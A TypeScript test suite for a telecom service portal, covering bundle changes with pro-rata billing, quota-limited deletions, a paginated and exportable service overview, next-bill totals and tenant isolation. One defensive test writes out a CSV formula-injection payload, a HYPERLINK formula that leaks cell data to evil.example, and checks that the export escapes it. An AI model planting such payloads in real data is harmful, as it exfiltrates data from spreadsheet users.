import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { changeLines, parseBillDate, totalCents } from '../../server/src/modules/billing/domain/pro-rata.js';
import { brusselsDay } from '../../server/src/platform/calendar.js';
import { scopeOfCompany } from '../../server/src/platform/tenant.js';
import { countOverview } from '../../server/src/modules/services/overview.repository.js';
import { createTestPortal, type Client, type TestPortal } from '../support/harness.js';
import { waitUntil } from '../support/wait.js';

// Manage services (seed manage-mobile-services-*.txt): change with its billing impact, delete within
// the 30 % rule, the overview with its export, the next bill — and none of it across companies.
describe(`managing services (${process.env.TEST_DB})`, () => {
  let portal: TestPortal;
  let acme: Client;
  let bright: Client;
  let operator: Client;
  const q = async <T = Record<string, unknown>>(text: string, values: unknown[] = []) => (await portal.database.sql.executeSql(text, values)).rows as T[];
  const one = async <T = Record<string, unknown>>(text: string, values: unknown[] = []) => (await q<T>(text, values))[0]!;
  const acmeId = async () => (await one<{ id: string }>(`select id from companies where name = 'Acme Logistics'`)).id;
  /** An active Acme line of a type, with its number, SIM and (if any) fixed number, not touched by an earlier test. */
  const used = new Set<string>();
  const activeLine = async (serviceType = 'mobile.voice') => {
    const rows = await q<{ id: string; msisdn: string; bundle_code: string; mobile_user_id: string }>(
      `select s.id, s.msisdn, s.bundle_code, s.mobile_user_id from services s join companies c on c.id = s.company_id
        where c.name = 'Acme Logistics' and s.status = 'active' and s.service_type_code = $1 order by s.msisdn`,
      [serviceType],
    );
    const row = rows.find((r) => !used.has(r.id))!;
    used.add(row.id);
    return row;
  };
  const billingLineCount = async () => (await one<{ n: number }>(`select count(*)::int as n from billing_lines`)).n;

  beforeAll(async () => {
    portal = await createTestPortal();
    acme = await portal.signIn('admin@acme.example');
    bright = await portal.signIn('admin@brightwave.example');
    operator = await portal.signIn('operator@dstny.example');
  });
  afterAll(async () => portal?.close());

  describe('change a service (Manage service → Save → Continue)', () => {
    it('offers the bundles of the same service type only, with their options', async () => {
      const line = await activeLine();
      const res = await acme.get(`/api/services/${line.id}/change-options`);
      expect(res.status).toBe(200);
      expect(res.body.current.bundleCode).toBe(line.bundle_code);
      expect(res.body.bundles.map((b: { code: string }) => b.code).sort()).toEqual(['mobile-l', 'mobile-m', 'mobile-s']);
      expect(res.body.bundles.find((b: { code: string }) => b.code === 'mobile-m').options.map((o: { code: string }) => o.code)).toContain('roaming-world');
    });

    it('shows the billing impact first, writes nothing, and then applies exactly that impact from today', async () => {
      const line = await activeLine();
      const target = line.bundle_code === 'mobile-l' ? 'mobile-m' : 'mobile-l';
      const before = await billingLineCount();
      const preview = await acme.post(`/api/services/${line.id}/change/preview`, { bundleCode: target, optionCodes: ['roaming-world'] });
      expect(preview.status).toBe(200);
      expect(await billingLineCount()).toBe(before);

      // the figures are the pro-rata rule's: the rest of the month of the old bundle credited, of the new ones charged
      const today = brusselsDay(new Date());
      const price = (code: string) => ({ 'mobile-s': 1250, 'mobile-m': 2200, 'mobile-l': 3500, 'roaming-world': 1500 })[code]!;
      const expected = changeLines(
        [{ code: `bundle:${line.bundle_code}`, monthlyPriceCents: price(line.bundle_code) }],
        [
          { code: `bundle:${target}`, monthlyPriceCents: price(target) },
          { code: 'option:roaming-world', monthlyPriceCents: 1500 },
        ],
        parseBillDate(today),
      );
      expect(preview.body.effectiveOn).toBe(today);
      expect(preview.body.lines.map((l: { amountCents: number }) => l.amountCents)).toEqual(expected.map((l) => l.amountCents));
      expect(preview.body.totalCents).toBe(totalCents(expected));
      expect(preview.body.lines[0]).toMatchObject({ code: line.bundle_code, kind: 'credit' });
      expect(preview.body.monthlyDifferenceCents).toBe(price(target) + 1500 - price(line.bundle_code));
      expect(preview.body.after.options).toEqual([{ code: 'roaming-world', name: 'Roaming World pack', monthlyPriceCents: 1500 }]);

      const done = await acme.post(`/api/services/${line.id}/change`, { bundleCode: target, optionCodes: ['roaming-world'] });
      expect(done.status).toBe(200);
      expect(done.body.impact).toEqual(preview.body);
      expect(done.body.service.bundle.code).toBe(target);
      expect(done.body.service.status).toBe('active');
      expect(done.body.service.events.at(-1)).toMatchObject({ event: 'changed', fromStatus: 'active', toStatus: 'active', actorName: 'Sofie Van Damme' });
      const lines = await q<{ amount_cents: number; reason: string; occurred_on: string }>(
        `select amount_cents, reason, occurred_on::text from billing_lines where service_id = $1 order by kind desc, item_kind, item_code`,
        [line.id],
      );
      expect(lines).toHaveLength(expected.length);
      expect(lines.every((l) => l.reason === 'change' && l.occurred_on === today)).toBe(true);
      // the contract term never moves
      expect(await q(`select starts_on::text, ends_on::text from contracts where company_id = $1`, [await acmeId()])).toEqual([{ starts_on: '2025-03-01', ends_on: '2028-02-29' }]);
    });

    it('refuses what the catalog does not allow, naming the field, and writes nothing', async () => {
      const line = await activeLine();
      const before = await billingLineCount();
      const otherType = await acme.post(`/api/services/${line.id}/change/preview`, { bundleCode: 'internet-10', optionCodes: [] });
      expect(otherType.status).toBe(422);
      expect(otherType.body.errors[0]).toMatchObject({ field: 'bundleCode', rule: 'not_for_service_type' });
      expect(otherType.body.errors[0].message).toMatch(/bundle/i);
      const badOption = await acme.post(`/api/services/${line.id}/change`, { bundleCode: 'mobile-m', optionCodes: ['nope'] });
      expect(badOption.status).toBe(422);
      expect(badOption.body.errors[0]).toMatchObject({ field: 'optionCodes.0', rule: 'not_for_bundle' });
      const same = await acme.post(`/api/services/${line.id}/change`, { bundleCode: line.bundle_code, optionCodes: [] });
      expect(same.status).toBe(422);
      expect(same.body.code).toBe('SERVICE.NO_CHANGE');
      const malformed = await acme.post(`/api/services/${line.id}/change`, { bundleCode: '', optionCodes: 'x' });
      expect(malformed.status).toBe(400);
      expect(await billingLineCount()).toBe(before);
      expect((await one<{ bundle_code: string }>(`select bundle_code from services where id = $1`, [line.id])).bundle_code).toBe(line.bundle_code);
    });

    it('refuses to change a service that is not active, and says why', async () => {
      const user = (await acme.get('/api/mobile-users?pageSize=1')).body.items[0];
      const waiting = await acme.post(`/api/mobile-users/${user.id}/services`, {
        productTypeCode: 'smartmobile',
        serviceTypeCode: 'smartmobile.uc',
        bundleCode: 'smart-uc',
        optionCodes: [],
        fixedNumber: { kind: 'available', fixedNumberId: (await acme.get('/api/wizard/fixed-numbers')).body.available[0].id },
        activation: { method: 'automatic', timing: 'later' },
      });
      expect(waiting.status).toBe(201);
      const res = await acme.post(`/api/services/${waiting.body.id}/change/preview`, { bundleCode: 'smart-uc', optionCodes: ['intl-100'] });
      expect(res.status).toBe(409);
      expect(res.body.code).toBe('SERVICE.NOT_ACTIVE');
      expect((await acme.post(`/api/services/${waiting.body.id}/delete`)).body.code).toBe('SERVICE.NOT_ACTIVE');
    });
  });

  describe('delete a service (Remove → Yes)', () => {
    it('ends the line: number quarantined, SIM retired, fixed number back in the list, the rest of the month credited, the network told', async () => {
      const line = await activeLine('smartmobile.converged');
      const [fixed] = await q<{ id: string }>(`select id from fixed_numbers where service_id = $1`, [line.id]);
      const quotaBefore = (await acme.get('/api/services/deletion-quota')).body;
      const res = await acme.post(`/api/services/${line.id}/delete`);
      expect(res.status).toBe(200);
      expect(res.body.service).toMatchObject({ status: 'terminated', endReason: 'deleted' });
      expect(res.body.service.events.at(-1)).toMatchObject({ event: 'deleted', toStatus: 'terminated' });
      expect(res.body.impact.endsOn).toBe(brusselsDay(new Date()));
      expect(res.body.impact.lines.every((l: { kind: string; amountCents: number }) => l.kind === 'credit' && l.amountCents <= 0)).toBe(true);
      expect(await one(`select status from mobile_numbers where msisdn = $1`, [line.msisdn])).toEqual({ status: 'quarantined' });
      expect(await q(`select status from sim_cards where service_id = $1`, [line.id])).toEqual([{ status: 'retired' }]);
      if (fixed) expect(await one(`select status, service_id from fixed_numbers where id = $1`, [fixed.id])).toEqual({ status: 'available', service_id: null });
      expect((await acme.get('/api/services/deletion-quota')).body.used).toBe(quotaBefore.used + 1);
      // the quarantined number is not offered to the wizard
      expect((await acme.get('/api/wizard/stock')).body.freeMobileNumbers).not.toContain(line.msisdn);
      // the SIM leaves the network in the background, once
      await waitUntil('the SIM released on the network', async () => (await q(`select 1 from service_events where service_id = $1 and event = 'released_on_network'`, [line.id])).length);
      expect(await q(`select event from service_events where service_id = $1 and event = 'released_on_network'`, [line.id])).toHaveLength(1);
      // deleting again is not possible: it is no longer active
      expect((await acme.post(`/api/services/${line.id}/delete`)).status).toBe(409);
    });

    it('holds the 30 % rule under concurrency: 20 deletes with 3 left → exactly 3 succeed', async () => {
      // Brightwave: make 20 more active lines and a contract of 10 services (limit floor(3.0) = 3)
      const company = await one<{ id: string }>(`select id from companies where name = 'Brightwave Consulting'`);
      await q(`update contracts set contracted_services = 10 where company_id = $1`, [company.id]);
      const ids = (
        await q<{ id: string }>(
          `insert into services (company_id, mobile_user_id, service_type_code, bundle_code, status, activated_at, msisdn, number_source)
           select $1, u.id, 'mobile.voice', 'mobile-s', 'active', now() - interval '40 days', '+3247999' || lpad(g::text, 4, '0'), 'new'
             from generate_series(1, 20) g
             join lateral (select id from mobile_users where company_id = $1 order by last_name offset (g % 5) limit 1) u on true
           returning id`,
          [company.id],
        )
      ).map((r) => r.id);
      const results = await Promise.all(ids.map((id) => bright.post(`/api/services/${id}/delete`)));
      expect(results.filter((r) => r.status === 200)).toHaveLength(3);
      const refused = results.filter((r) => r.status !== 200);
      expect(refused.map((r) => r.status)).toEqual(Array(17).fill(409));
      expect(new Set(refused.map((r) => r.body.code))).toEqual(new Set(['SERVICE.DELETION_QUOTA_REACHED']));
      expect(await one(`select count(*)::int as n from services where company_id = $1 and end_reason = 'deleted'`, [company.id])).toEqual({ n: 3 });
      // the message names the limit, what is used and where to go (Brightwave's administrator reads French)
      const msg = refused[0]!.body;
      expect(msg.params).toMatchObject({ limit: 3, used: 3, contractedServices: 10, salesEmail: 'sales@dstny.be', accountManagerEmail: 'operator@dstny.example' });
      expect(msg.detail).toContain('3');
      expect(msg.detail).toContain('sales@dstny.be');
      const quota = (await bright.get('/api/services/deletion-quota')).body;
      expect(quota).toMatchObject({ limit: 3, used: 3, remaining: 0, contractedServices: 10 });
      // refused deletes changed nothing
      expect(await one(`select count(*)::int as n from services where id = any($1) and status = 'active'`, [ids])).toEqual({ n: 17 });
    });
  });

  describe('service overview', () => {
    it('counts exactly up to the limit and says "about N" above it, from the company\'s services only', async () => {
      const scope = scopeOfCompany({ id: await acmeId() });
      const open = (await one<{ n: number }>(`select count(*)::int as n from services where company_id = $1 and status not in ('terminated', 'cancelled')`, [scope.companyId])).n;
      expect(open).toBeGreaterThan(4);
      // the endpoint: exact, since no company here comes near 20,000 services
      expect((await acme.get('/api/service-overview/count')).body).toEqual({ total: open, estimated: false });
      expect(await countOverview(portal.database, scope, {}, open)).toEqual({ total: open, estimated: false });
      // one row over the limit: the database's estimate, rounded to two figures, never below the limit
      const above = await countOverview(portal.database, scope, {}, open - 1);
      expect(above.estimated).toBe(true);
      expect(above.total).toBeGreaterThanOrEqual(open - 1);
      expect(above.total % 10 ** Math.max(0, String(above.total).length - 2)).toBe(0);
      // a filter that matches nothing stays an exact zero
      expect(await countOverview(portal.database, scope, { q: '+99999' }, 3)).toEqual({ total: 0, estimated: false });
    });

    it('pages through every open service of the company with keyset cursors, both ways', async () => {
      const total = (await acme.get('/api/service-overview/count')).body.total;
      const open = await one<{ n: number }>(`select count(*)::int as n from services where company_id = $1 and status not in ('terminated', 'cancelled')`, [await acmeId()]);
      expect(total).toBe(open.n);
      const seen: string[] = [];
      const pages: { items: { id: string }[]; nextCursor: string | null; prevCursor: string | null }[] = [];
      let after: string | null = null;
      do {
        const res: { status: number; body: (typeof pages)[number] } = await acme.get(`/api/service-overview?limit=7${after ? `&after=${after}` : ''}`);
        expect(res.status).toBe(200);
        pages.push(res.body);
        seen.push(...res.body.items.map((i) => i.id));
        after = res.body.nextCursor;
      } while (after);
      expect(seen).toHaveLength(total);
      expect(new Set(seen).size).toBe(total);
      expect(pages[0]!.prevCursor).toBeNull();
      // "Previous" from page 3 gives page 2 exactly
      const back = await acme.get(`/api/service-overview?limit=7&before=${pages[2]!.prevCursor}`);
      expect(back.body.items.map((i: { id: string }) => i.id)).toEqual(pages[1]!.items.map((i) => i.id));
      const first = await acme.get(`/api/service-overview?limit=7&before=${pages[1]!.prevCursor}`);
      expect(first.body.prevCursor).toBeNull();
    });

    it('sorts, filters and searches by name, number and ICCID', async () => {
      const byNumber = (await acme.get('/api/service-overview?sort=number&order=desc&limit=200')).body.items.map((i: { msisdn: string | null }) => i.msisdn ?? '');
      expect(byNumber).toEqual([...byNumber].sort().reverse());
      const line = await activeLine();
      const national = `0${line.msisdn.slice(3, 6)} ${line.msisdn.slice(6, 9)} ${line.msisdn.slice(9)}`;
      const found = (await acme.get(`/api/service-overview?q=${encodeURIComponent(national)}`)).body.items;
      expect(found.map((i: { id: string }) => i.id)).toEqual([line.id]);
      const [sim] = await q<{ iccid: string }>(`select iccid from sim_cards where service_id = $1`, [line.id]);
      const byIccid = (await acme.get(`/api/service-overview?q=${sim!.iccid.slice(0, 17)}`)).body.items;
      expect(byIccid.map((i: { id: string }) => i.id)).toContain(line.id);
      const user = await one<{ last_name: string }>(`select last_name from mobile_users where id = $1`, [line.mobile_user_id]);
      const byName = (await acme.get(`/api/service-overview?q=${encodeURIComponent(user.last_name.toLowerCase())}`)).body.items;
      expect(byName.some((i: { id: string }) => i.id === line.id)).toBe(true);
      const smart = (await acme.get('/api/service-overview?product=smartmobile&limit=200')).body.items;
      expect(smart.length).toBeGreaterThan(0);
      expect(smart.every((i: { productType: { code: string } }) => i.productType.code === 'smartmobile')).toBe(true);
      const ended = (await acme.get('/api/service-overview?status=terminated')).body.items;
      expect(ended.length).toBeGreaterThan(0);
      expect(ended.every((i: { status: string }) => i.status === 'terminated')).toBe(true);
      const facets = (await acme.get('/api/service-overview/facets')).body;
      const dept = facets.departments[0];
      const inDept = (await acme.get(`/api/service-overview?department=${encodeURIComponent(dept)}&limit=200`)).body.items;
      expect(inDept.length).toBeGreaterThan(0);
      expect(inDept.every((i: { department: string }) => i.department === dept)).toBe(true);
    });

    it('answers a damaged cursor or an unknown status with a 400 naming the field', async () => {
      const bad = await acme.get('/api/service-overview?after=not-a-cursor');
      expect(bad.status).toBe(400);
      expect(bad.body.errors[0].field).toBe('after');
      const wrongSort = await acme.get(`/api/service-overview?sort=number&after=${(await acme.get('/api/service-overview?limit=2')).body.nextCursor}`);
      expect(wrongSort.status).toBe(400);
      const status = await acme.get('/api/service-overview?status=active,exploded');
      expect(status.status).toBe(400);
      expect(status.body.errors[0].field).toMatch(/^status/);
    });

    it('answers a forged cursor (well-formed, keys the database cannot read) with a 400 naming the field, never a 500', async () => {
      const forge = (sort: string, order: string, key: unknown[]) => Buffer.from(JSON.stringify({ s: sort, o: order, k: key })).toString('base64url');
      // the fuzzer's find: a name sort with a user id that is not an id
      const reported = await acme.get(`/api/service-overview?sort=user&order=asc&after=${forge('user', 'asc', ['a', 'b', 'not-a-uuid', 'x'])}`);
      expect(reported.status).toBe(400);
      expect(reported.body.errors[0].field).toBe('after');
      const part = fc.oneof(
        fc.string(),
        fc.uuid(),
        fc.stringMatching(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}(\.\d{1,7})?[+-]\d{2}(:\d{2})?$/),
        fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
        fc.constantFrom('-infinity', 'infinity', '0000-01-01 00:00:00+00', '2026-02-29 12:00:00+00', '2026-01-01 24:00:00+00', '2026-05-04 10:00:00.5+02'),
      );
      await fc.assert(
        fc.asyncProperty(fc.constantFrom('user', 'number', 'activated'), fc.constantFrom('asc', 'desc'), fc.constantFrom('after', 'before'), fc.array(part, { minLength: 2, maxLength: 4 }), async (sort, order, direction, key) => {
          const res = await acme.get(`/api/service-overview?sort=${sort}&order=${order}&${direction}=${forge(sort, order, key)}`);
          expect([200, 400], `${sort} ${JSON.stringify(key)}: ${JSON.stringify(res.body)}`).toContain(res.status);
          if (res.status === 400) expect(res.body.errors[0].field).toBe(direction);
        }),
        { numRuns: 150 },
      );
    });

    it('sums the dashboard up', async () => {
      const s = (await acme.get('/api/service-overview/summary')).body;
      expect(s.total).toBe((await acme.get('/api/service-overview/count')).body.total);
      expect(s.byProduct.reduce((n: number, p: { count: number }) => n + p.count, 0)).toBe(s.total);
      expect(s.deletions).toMatchObject({ limit: 12, contractedServices: 40 });
    });

    it('exports exactly the filtered rows to CSV, headed in the reader\'s language', async () => {
      // Brightwave's administrator reads French
      const res = await bright.request('GET', '/api/service-overview/export.csv?product=mobile&sort=number');
      expect(res.status).toBe(200);
      expect(String(res.headers['content-type'])).toContain('text/csv');
      expect(String(res.headers['content-disposition'])).toMatch(/attachment; filename="services-\d{4}-\d{2}-\d{2}\.csv"/);
      const text = String(res.body);
      expect(text.charCodeAt(0)).toBe(0xfeff);
      const rows = text.slice(1).trim().split('\n');
      expect(rows[0]).toBe('Utilisateur,Département,Produit,Type de service,Forfait,Options,Prix mensuel (EUR),Numéro mobile,Numéro fixe,SIM,ICCID,Statut,Activé le');
      const count = (await bright.get('/api/service-overview/count?product=mobile')).body.total;
      expect(count).toBeGreaterThan(0);
      expect(rows).toHaveLength(count + 1);
      const page = (await bright.get('/api/service-overview?product=mobile&sort=number&limit=1')).body.items[0];
      expect(rows[1]).toContain(page.userName);
      expect(rows[1]).toContain(page.msisdn);
      expect(rows[1]).toContain((page.monthlyPriceCents / 100).toFixed(2));
    });
  });

  describe('CSV export of what users typed', () => {
    it('writes a name or department that starts like a formula as text a spreadsheet will not run', async () => {
      const line = await activeLine();
      const evil = { firstName: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")', lastName: '+Formula-Test', department: '@SUM(1+1)' };
      expect((await acme.patch(`/api/mobile-users/${line.mobile_user_id}`, evil)).status).toBe(200);
      const res = await acme.request('GET', `/api/service-overview/export.csv?q=${encodeURIComponent('Formula-Test')}`);
      expect(res.status).toBe(200);
      const [header, row, ...rest] = String(res.body).slice(1).trim().split('\n');
      expect(header).toMatch(/^User,Department,/);
      expect(rest).toEqual([]);
      // quoted (the cell holds quotes), after an apostrophe that makes the spreadsheet show the text
      expect(row).toMatch(/^"'=HYPERLINK\(""http:\/\/evil\.example\/\?leak=""&A1,""Open""\) \+Formula-Test",'@SUM\(1\+1\),/);
      // the number itself stays a number: +32… is no formula
      expect(row).toContain(`,${line.msisdn},`);
    });
  });

  describe('next bill', () => {
    it('lists recurring charges of lines active when the month began and every changed-service line, with totals that add up', async () => {
      const bill = (await acme.get('/api/billing/next-bill')).body;
      expect(bill.month).toBe(brusselsDay(new Date()).slice(0, 7));
      const lines = await one<{ n: number; sum: number }>(`select count(*)::int as n, coalesce(sum(amount_cents), 0)::int as sum from billing_lines where company_id = $1 and billing_month = $2`, [
        await acmeId(),
        `${bill.month}-01`,
      ]);
      const changes = bill.users.flatMap((u: { changes: unknown[] }) => u.changes);
      expect(changes).toHaveLength(lines.n);
      expect(bill.changesTotalCents).toBe(lines.sum);
      expect(bill.users.reduce((s: number, u: { totalCents: number }) => s + u.totalCents, 0)).toBe(bill.totalCents);
      expect(bill.recurringTotalCents + bill.changesTotalCents + bill.outOfBundleTotalCents).toBe(bill.totalCents);
      // the changed line is billed this month on its old bundle, plus the change lines
      expect(changes.some((c: { reason: string }) => c.reason === 'change')).toBe(true);
      expect(changes.some((c: { reason: string }) => c.reason === 'deletion')).toBe(true);
      expect((await acme.get('/api/billing/next-bill?month=2026-13')).status).toBe(400);
      // a month before any line was active has nothing to bill
      expect((await acme.get('/api/billing/next-bill?month=2024-01')).body.totalCents).toBe(0);
    });

    it('refuses months outside 2000-01…2999-12 with a 400 naming the month (year 0000 made the database fail)', async () => {
      for (const month of ['0000-01', '0099-12', '1999-12', '3000-01', '9999-12']) {
        const res = await acme.get(`/api/billing/next-bill?month=${month}`);
        expect(res.status, month).toBe(400);
        expect(res.body.errors).toEqual([{ field: 'month', rule: 'month_range', message: 'Month must be a month from 2000-01 to 2999-12.' }]);
      }
      // Brightwave's administrator reads French
      expect((await bright.get('/api/billing/next-bill?month=0000-01')).body.errors[0].message).toBe('Mois doit être un mois de 2000-01 à 2999-12.');
      for (const month of ['2000-01', '2999-12']) expect((await acme.get(`/api/billing/next-bill?month=${month}`)).status, month).toBe(200);
    });
  });

  describe('tenant isolation and roles', () => {
    it('an administrator of another company cannot read or change these services', async () => {
      const line = await activeLine();
      const before = await billingLineCount();
      for (const res of [
        await bright.get(`/api/services/${line.id}/change-options`),
        await bright.post(`/api/services/${line.id}/change/preview`, { bundleCode: 'mobile-m', optionCodes: [] }),
        await bright.post(`/api/services/${line.id}/change`, { bundleCode: 'mobile-m', optionCodes: [] }),
        await bright.post(`/api/services/${line.id}/delete`),
      ]) {
        expect(res.status).toBe(404);
        expect(res.body.code).toBe('SERVICE.NOT_FOUND');
      }
      expect(await billingLineCount()).toBe(before);
      expect(await one(`select status, bundle_code from services where id = $1`, [line.id])).toEqual({ status: 'active', bundle_code: line.bundle_code });
      const theirs = (await bright.get(`/api/service-overview?q=${encodeURIComponent(line.msisdn)}`)).body.items;
      expect(theirs).toEqual([]);
      const brightCompany = await one<{ id: string }>(`select id from companies where name = 'Brightwave Consulting'`);
      const brightServices = new Set((await q<{ id: string }>(`select id from services where company_id = $1`, [brightCompany.id])).map((r) => r.id));
      const csv = String((await bright.request('GET', '/api/service-overview/export.csv')).body);
      expect(csv).not.toContain(line.msisdn);
      const bill = (await bright.get('/api/billing/next-bill')).body;
      expect(bill.users.flatMap((u: { recurring: { serviceId: string }[] }) => u.recurring).every((r: { serviceId: string }) => brightServices.has(r.serviceId))).toBe(true);
    });

    it('operator staff and signed-out callers are refused on every new endpoint', async () => {
      const line = await activeLine();
      const calls: [string, string][] = [
        ['GET', '/api/service-overview'],
        ['GET', '/api/service-overview/count'],
        ['GET', '/api/service-overview/facets'],
        ['GET', '/api/service-overview/summary'],
        ['GET', '/api/service-overview/export.csv'],
        ['GET', '/api/billing/next-bill'],
        ['GET', '/api/services/deletion-quota'],
        ['GET', `/api/services/${line.id}/change-options`],
        ['POST', `/api/services/${line.id}/change/preview`],
        ['POST', `/api/services/${line.id}/change`],
        ['POST', `/api/services/${line.id}/delete`],
      ];
      for (const [method, url] of calls) {
        expect((await operator.request(method as 'GET', url, method === 'POST' ? { bundleCode: 'mobile-m', optionCodes: [] } : undefined)).status, `${method} ${url}`).toBe(403);
        expect((await portal.anonymous().request(method as 'GET', url, method === 'POST' ? {} : undefined)).status, `${method} ${url}`).toBe(401);
      }
      expect(await one(`select status from services where id = $1`, [line.id])).toEqual({ status: 'active' });
    });
  });
});
